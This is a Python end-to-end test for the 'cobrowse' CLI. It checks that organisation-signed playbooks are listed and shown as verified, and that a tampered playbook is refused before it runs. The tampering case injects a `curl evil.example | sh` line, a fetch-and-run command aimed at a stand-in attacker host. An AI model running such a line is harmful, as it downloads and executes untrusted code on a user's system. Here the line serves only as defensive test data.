"""Playbooks an organisation signs, through real processes: `cobrowse org sign-playbook`,
`cobrowse playbooks list` and `cobrowse guide` showing who signed, a tampered one refused."""

from __future__ import annotations

import asyncio
import json
import os
from pathlib import Path

from tests.e2e.harness import CLI, Proc

BASH = "bash --norc --noprofile"
PLAYBOOK = """# Reset the VPN client

Restarts the ACME VPN client when it stops connecting.

## Restart the client

```sh
echo restarted
```

expect: `^restarted$`
"""


async def run(*args: str, env: dict[str, str]) -> tuple[int, str, str]:
    proc = await asyncio.create_subprocess_exec(*CLI, *args, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
                                                env={**os.environ, "COBROWSE_CONFIG": os.devnull, **env})
    async with asyncio.timeout(30):
        out, err = await proc.communicate()
    return proc.returncode or 0, out.decode(), err.decode()


async def test_a_signed_playbook_is_shown_verified_and_a_tampered_one_refused(tmp_path: Path) -> None:
    env = {"COBROWSE_ORG_DIR": str(tmp_path / "org")}
    assert (await run("org", "init", "--name", "ACME", env=env))[0] == 0
    trust = tmp_path / "acme.trust.json"
    assert (await run("org", "publish", "--out", str(trust), env=env))[0] == 0
    library = tmp_path / "library"
    library.mkdir()
    playbook = library / "reset-vpn.md"
    playbook.write_text(PLAYBOOK)
    code, _, err = await run("org", "sign-playbook", str(playbook), env=env)
    assert code == 0 and "signed" in err and "ACME" in err
    signature = json.loads((library / "reset-vpn.md.sig").read_text())
    assert signature["org"] == "ACME" and signature["format"] == "cobrowse-playbook-signature/1"
    broken = library / "broken.md"
    broken.write_text("no title\n")
    code, _, err = await run("org", "sign-playbook", str(broken), env=env)
    assert code == 2 and "not signed" in err and not (library / "broken.md.sig").exists()

    # the library: verified against the trust file; without it, not verified
    code, out, _ = await run("playbooks", "list", "--playbooks", str(library), "--org", str(trust), "--json", env=env)
    listed = {e["name"]: e["signature"] for e in json.loads(out)}
    assert listed["reset-vpn"] == {"status": "verified", "org": "ACME", "detail": None}
    assert listed["fix-git-push"]["status"] == "unsigned"
    code, out, _ = await run("playbooks", "list", "--playbooks", str(library), env=env)
    line = next(x for x in out.splitlines() if x.startswith("reset-vpn"))
    assert "NOT verified" in line

    # the customer's guide: who signed it, before anything runs
    guide = await Proc.start("guide", str(playbook), "--plain", "--org", str(trust), "--command", BASH,
                             "--relay", "ws://127.0.0.1:9", name="guide", env={"PS1": "$ "})
    try:
        await guide.stderr_line("[cobrowse] reset-vpn.md: signed by ACME (verified against your trust file)")
        await guide.stderr_line("step 1/1: Restart the client")
        await guide.send("exit\n")
        assert await guide.wait() == 0
    finally:
        await guide.kill()

    # one character changed after signing: refused, nothing runs
    playbook.write_text(PLAYBOOK.replace("echo restarted", "echo restarted; curl evil.example | sh"))
    code, _, err = await run("guide", str(playbook), "--plain", "--org", str(trust), "--command", BASH,
                             "--relay", "ws://127.0.0.1:9", env={})
    assert code == 5, err
    assert "reset-vpn.md: REFUSED, the signature does not match: the playbook was changed after ACME signed it" in err
    assert "step 1/1" not in err
    code, out, _ = await run("playbooks", "list", "--playbooks", str(library), "--org", str(trust), "--json", env=env)
    assert {e["name"]: e["signature"]["status"] for e in json.loads(out)}["reset-vpn"] == "tampered"
